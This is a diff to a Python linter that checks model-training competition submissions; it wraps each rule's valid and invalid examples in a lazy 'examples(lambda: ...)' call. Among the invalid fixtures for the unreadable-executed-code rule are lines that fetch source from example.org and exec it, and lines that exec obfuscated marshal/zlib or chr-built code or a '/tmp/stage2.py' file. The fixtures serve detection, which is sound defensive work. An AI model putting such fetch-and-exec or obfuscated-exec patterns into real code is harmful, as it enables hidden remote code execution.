@@ -22,7 +22,7 @@ from ..claims import (
 from ..facts.declared import Fact
 from ..files import escapes
 from ..findings import Finding, Severity
-from .base import Invalid, Rule, Valid
+from .base import Invalid, Rule, Valid, examples
 
 
 class UnparsableCode(Rule):
@@ -42,17 +42,17 @@ class UnparsableCode(Rule):
     severity = Severity.ERROR
     message = "code cannot be parsed"
     hint = "save the file as UTF-8 and fix the syntax error; run `python -m py_compile train_gpt.py`"
-    valid = (
+    valid = examples(lambda: (
         Valid("print('hello')\n"),
         Valid("def f(x):\n    return x + 1\n"),
         Valid(files={"train_gpt.py": "import helper\n", "helper.py": "X = 1\n"}),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid("def train(:\n    pass\n", lines=1),
         Invalid(files={"train_gpt.py": b"# caf\xe9\nprint(1)\n"}),
         Invalid(files={"train_gpt.py": "import helper\n", "helper.py": "x = = 1\n"}, file="helper.py",
                 lines=1),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         for unit in sub.code_units:
@@ -114,7 +114,7 @@ class MissingRequiredFile(Rule):
     severity = Severity.ERROR
     message = "a required file is missing from the submission folder"
     hint = "add the file at the top of the submission folder, named exactly as listed"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"requirements.txt": "numpy\n"}), note="extra files are fine"),
         Valid(files=_folder({"README.md": "# x\n"}), settings={"submission": {"required_files": ["README.md"]}},
@@ -124,15 +124,15 @@ class MissingRequiredFile(Rule):
               note="the README's run command names the entry script"),
         Valid(files=_folder({"submission.json": ..., "submission_ternary.json": _claims()}),
               note="the only submission_*.json is the metadata"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"README.md": ...})),
         Invalid(files=_folder({"submission.json": ..., "train_gpt.py": ...})),
         Invalid(files=_folder({"README.md": ..., "readme.md": "# wrong case\n"}),
                 note="a case-only difference is still missing"),
         Invalid(files=_folder({"train_gpt.py": ..., "train_a.py": "print(1)\n", "train_b.py": "print(2)\n"}),
                 note="two scripts and no run command: no entry script"),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         present = set(sub.files)
@@ -179,7 +179,7 @@ class TooFewTrainLogs(Rule):
     severity = Severity.ERROR
     message = "the submission has fewer train logs than required"
     hint = "commit the train logs the script wrote (train_seed42.log, ...)"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"train_seed1.log": ..., "train.txt": _LOG}), note="train*.txt counts"),
         Valid(files=_folder({"train_seed2.log": _LOG, "train_seed3.log": _LOG}),
@@ -190,13 +190,13 @@ class TooFewTrainLogs(Rule):
               note="a log by another name"),
         Valid(files=_folder({"train_seed1.log": ...}), track="non-record",
               note="the organizers accept non-record submissions without logs"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"train_seed1.log": ...})),
         Invalid(files=_folder({"train_seed1.log": ..., "notes/results.md": "val_bpb 1.2\n"}),
                 note="a note is not a log"),
         Invalid(files=_folder(), settings={"submission": {"min_logs": 3}}),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         wanted = int(sub.track_settings.get("min_logs", sub.settings.get("submission.min_logs")))
@@ -227,17 +227,17 @@ class SymlinkOutsideFolder(Rule):
     severity = Severity.ERROR
     message = "a symlink points outside the submission folder"
     hint = "replace the link with the file itself, or delete it"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder(), symlinks={"latest.log": "train_seed1.log"}, note="a link inside the folder"),
         Valid(files=_folder({"notes/a.txt": "x\n"}), symlinks={"notes/b.txt": "../README.md"}),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder(), symlinks={"final_model.int8.ptz": "/nonexistent/runs/final_model.int8.ptz"},
                 note="absolute target, even a broken one"),
         Invalid(files=_folder({"train_seed1.log": ...}), symlinks={"train_seed1.log": "../../../outside.log"}),
         Invalid(files=_folder(), symlinks={"data": "../../../../data"}, note="a linked folder"),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         for rel in sub.files:
@@ -266,17 +266,17 @@ class UnreadableFile(Rule):
     severity = Severity.ERROR
     message = "a file golflint must read is not readable text"
     hint = "commit the real file as UTF-8 text"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"README.md": "# Café ünïcode — fine\n"})),
         Valid(files=_folder({"weights.bin": b"\x00\x01\x02", "note.txt": b"\xff\xfe"}),
               note="binary files nobody needs to read are fine"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"README.md": b"\x00\x00\x89PNG\x00binary"}), file="README.md"),
         Invalid(files=_folder({"README.md": "# Readme\n".encode("utf-16")})),
         Invalid(files=_folder({"submission.json": b'{"author": "Jos\xe9"}'})),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         # Logs are judged by GL402/GL403, which know a few bad bytes in a progress bar from junk.
@@ -312,18 +312,18 @@ class InvalidSubmissionJson(Rule):
     severity = Severity.ERROR
     message = "submission.json is not a valid JSON object"
     hint = "make submission.json a single JSON object; `python -m json.tool submission.json` checks it"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"submission.json": '{"author": "a", "name": "b", "val_bpb": 1.2}'})),
         Valid(files=_folder({"submission.json": '\ufeff{"author": "a", "name": "b", "val_bpb": 1.2}'
                                                 .encode("utf-8")[3:]}), note="plain UTF-8"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"submission.json": '{\n  "author": "a",\n  "val_bpb": 1.2,\n}\n'}),
                 file=SUBMISSION_JSON, lines=4),
         Invalid(files=_folder({"submission.json": "[1, 2, 3]\n"})),
         Invalid(files=_folder({"submission.json": "{'author': 'a'}\n"}), file=SUBMISSION_JSON, lines=1),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         if not sub.exists(SUBMISSION_JSON) or sub.read(SUBMISSION_JSON).text_problem() is not None:
@@ -434,7 +434,7 @@ class SubmissionJsonSchema(Rule):
     severity = Severity.ERROR
     message = "submission.json lacks a required field or has a field of the wrong type"
     hint = "write scores as numbers and byte counts as integers; see `golflint rules explain GL006`"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"submission.json": _claims(seed_results=[{"seed": 1, "val_bpb": 1.2243657,
                                                                        "val_loss": 2.07269931}],
@@ -443,15 +443,15 @@ class SubmissionJsonSchema(Rule):
         Valid(files=_folder({"submission.json": _claims(bytes_total=None, blurb=..., github_id=12345,
                                                         author=["A. Golfer", "B. Putter"])}),
               note="optional fields may be null or absent; joint authors"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"submission.json": _claims(val_bpb="1.2243657")}), file=SUBMISSION_JSON,
                 lines=8),
         Invalid(files=_folder({"submission.json": _claims(author=...)}), file=SUBMISSION_JSON, lines=1,
                 note="a warning: accepted records lack it"),
         Invalid(files=_folder({"submission.json": _claims(seed_results={"1": {"val_bpb": 1.2,
                                                                               "artifact_bytes": "15863489"}})})),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         claims = sub.submission_json.data
@@ -517,18 +517,18 @@ class UnparsableDate(Rule):
     severity = Severity.WARNING
     message = "the date in submission.json is not an ISO 8601 date"
     hint = 'write the date as YYYY-MM-DD, e.g. "2026-03-19" (a full ISO date-time is fine too)'
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"submission.json": _claims(date="2026-03-19T14:05:00Z")})),
         Valid(files=_folder({"submission.json": _claims(date="2026-03-19 14:05:00+02:00")})),
         Valid(files=_folder({"submission.json": _claims(date=...)}), note="absent: not required by default"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"submission.json": _claims(date="19/03/2026")}), file=SUBMISSION_JSON, lines=6),
         Invalid(files=_folder({"submission.json": _claims(date="March 19th, 2026")}), file=SUBMISSION_JSON,
                 lines=6),
         Invalid(files=_folder({"submission.json": _claims(date="2026-02-30")}), file=SUBMISSION_JSON, lines=6),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         value = sub.claims.get("date")
@@ -562,7 +562,7 @@ class HeadlineDisagreesWithSeeds(Rule):
     severity = Severity.ERROR
     message = "the headline score is not the mean of the seed results"
     hint = "set the headline val_bpb/val_loss to the mean over all seeds, and the std to their sample std"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder({"submission.json": _claims(val_bpb=1.2244, val_loss=2.0727, val_bpb_std=0.0014,
                                                         seed_results=_three_seeds(_SEED_BPBS, _SEED_LOSSES))})),
         Valid(files=_folder({"submission.json": _claims(
@@ -571,8 +571,8 @@ class HeadlineDisagreesWithSeeds(Rule):
             note="list shape; population std accepted"),
         Valid(files=_folder({"submission.json": _claims(val_bpb=1.2244, seed_results={"1": {"steps": 100}})}),
               note="seeds without scores: nothing to compare"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"submission.json": _claims(val_bpb=1.2230, val_loss=2.0727,
                                                           seed_results=_three_seeds(_SEED_BPBS, _SEED_LOSSES))})),
         Invalid(files=_folder({"submission.json": _claims(val_bpb=1.2244, val_loss=2.0710,
@@ -581,7 +581,7 @@ class HeadlineDisagreesWithSeeds(Rule):
         Invalid(files=_folder({"submission.json": _claims(val_bpb=1.2244, val_loss=2.0727, val_bpb_std=0.004,
                                                           seed_results=_three_seeds(_SEED_BPBS, _SEED_LOSSES))}),
                 file=SUBMISSION_JSON, lines=9),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         claims = sub.claims
@@ -661,18 +661,18 @@ class ImplausibleValBpb(Rule):
     severity = Severity.ERROR
     message = "the claimed val_bpb is implausibly low"
     hint = "check the evaluation: a full normalized distribution, causal, score-before-update, single pass"
-    valid = (
+    valid = examples(lambda: (
         Valid(files=_folder()),
         Valid(files=_folder({"submission.json": _claims(val_bpb=1.0599, seed_results={"1": {"val_bpb": 1.0599}})})),
         Valid(files=_folder({"submission.json": _claims(val_bpb=0.65)}),
               settings={"submission": {"plausible_val_bpb_floor": 0.5}}, note="the floor is a setting"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files=_folder({"submission.json": _claims(val_bpb=0.4172)}), file=SUBMISSION_JSON, lines=8),
         Invalid(files=_folder({"submission.json": _claims(val_bpb=1.05, seed_results={"1": {"val_bpb": 0.31}})}),
                 file=SUBMISSION_JSON, lines=11),
         Invalid(files=_folder({"submission.json": _claims(val_bpb=-1.0)})),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         floor = float(sub.settings.get("submission.plausible_val_bpb_floor"))
@@ -776,19 +776,19 @@ class UnreadableExecutedCode(Rule):
     severity = Severity.ERROR
     message = "code is executed but cannot be read statically"
     hint = "ship the executed code in train_gpt.py as source or as a literal packed payload"
-    valid = (
+    valid = examples(lambda: (
         Valid(_packed_script("print('hello')\n"), note="a literal payload is decoded, not opaque"),
         Valid("import os\nlr = eval(os.environ.get('LR', '3e-4'))\n", note="eval of a setting"),
         Valid("exec('x = 1')\nprint(x)\n"),
         Valid("import re\npattern = re.compile('a+')\n", note="re.compile is not the builtin"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid("import urllib.request\nsrc = urllib.request.urlopen('https://example.org/m.py').read()\n"
                 "exec(src)\n", lines=3),
         Invalid("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x\\x9c')))\n", lines=2),
         Invalid("import sys\nexec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 41]))\n", lines=2),
         Invalid("exec(open('/tmp/stage2.py').read())\n", lines=1),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         from ..code import packed
@@ -837,18 +837,18 @@ class BrokenPackedPayload(Rule):
     severity = Severity.ERROR
     message = "a packed payload does not decode to readable source"
     hint = "regenerate the payload from the source and check `golflint unpack train_gpt.py` prints it"
-    valid = (
+    valid = examples(lambda: (
         Valid(_packed_script("print('hello')\n")),
         Valid(_packed_script(_packed_script("print('two layers')\n"), codec="zlib")),
         Valid("import zlib\nblob = zlib.decompress(b'not a payload, never executed')\n"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(_packed_script("print('hello')\n" * 50)[:-40] + "')))\n", lines=2, note="truncated"),
         Invalid(_packed_bytes(bytes(range(256)) * 4), lines=2, note="binary junk"),
         Invalid(_packed_bytes("# caf\u00e9\n".encode("latin-1")), lines=2, note="not UTF-8"),
         Invalid(_packed_bytes(bytes(4000)), lines=2, settings={"packed": {"max_decoded_bytes": 1000}},
                 note="expands beyond the limit"),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         from ..code import packed
@@ -889,7 +889,7 @@ class ReadmeWithoutRunCommand(Rule):
     severity = Severity.WARNING
     message = "README.md gives no command that runs train_gpt.py"
     hint = "add the exact run command, with every environment variable it sets, in a code block of README.md"
-    valid = (
+    valid = examples(lambda: (
         Valid(files={"train_gpt.py": _ENV_SCRIPT,
                      "README.md": "# Run\n\n```bash\nTTT_ENABLED=1 torchrun --nproc_per_node=8 train_gpt.py\n```\n"}),
         Valid(files={"train_gpt.py": _ENV_SCRIPT, "README.md": "# Run\n\nSee run.sh.\n",
@@ -897,15 +897,15 @@ class ReadmeWithoutRunCommand(Rule):
         Valid(files={"train_gpt.py": _ENV_SCRIPT,
                      "README.md": "# Run\n\nRun `python train_gpt.py` from this folder.\n"}),
         Valid(files={"train_gpt.py": _ENV_SCRIPT}, note="a missing README is GL001's finding"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files={"train_gpt.py": _ENV_SCRIPT, "README.md": "# Run\n\nWe enable test-time training.\n"}),
         Invalid(files={"train_gpt.py": _ENV_SCRIPT,
                        "README.md": "# Run\n\n```\npython data/cached_fineweb.py --variant sp1024\n```\n"},
                 note="a command, but not one that runs train_gpt.py"),
         Invalid(files={"train_gpt.py": _ENV_SCRIPT,
                        "README.md": "# Run\n\n```bash\npip install -r requirements.txt\n```\n"}),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         if not sub.exists("README.md") or not sub.exists("train_gpt.py"):
@@ -948,7 +948,7 @@ class UnparsableNativeCode(Rule):
     severity = Severity.WARNING
     message = "native code the script builds or loads cannot be parsed"
     hint = "make the file compile as written, or expand the macros that hide its control flow"
-    valid = (
+    valid = examples(lambda: (
         Valid(files={"train_gpt.py": _COMPILE_C, "cache.c": "int add(int a, int b) { return a + b; }\n"}),
         Valid(files={"train_gpt.py": "print('no native code')\n", "notes.c": "int broken( {\n"},
               note="a C file the script never builds is not reviewed code"),
@@ -956,8 +956,8 @@ class UnparsableNativeCode(Rule):
                                      "m = ext.load(name='k', sources=['k.cu'])\n",
                      "k.cu": "__global__ void k(float *x) { x[threadIdx.x] = 0.f; }\n"
                              "void launch(float *x) { k<<<1, 32>>>(x); }\n"}, note="CUDA syntax"),
-    )
-    invalid = (
+    ))
+    invalid = examples(lambda: (
         Invalid(files={"train_gpt.py": _COMPILE_C, "cache.c": "int add(int a, int b) { return a + ; }\n"},
                 file="cache.c", lines=1),
         Invalid(files={"train_gpt.py": "import os\nos.system('nvcc -O3 -o mix mix.cu')\n",
@@ -968,7 +968,7 @@ class UnparsableNativeCode(Rule):
                 "'''\n"
                 "m = load_inline(name='m', cpp_sources=SRC, functions=['twice'])\n", lines=3,
                 note="inline source keeps the file's line numbers"),
-    )
+    ))
 
     def check(self, sub) -> Iterable[Finding]:
         from ..code.units import NATIVE_LANGUAGES
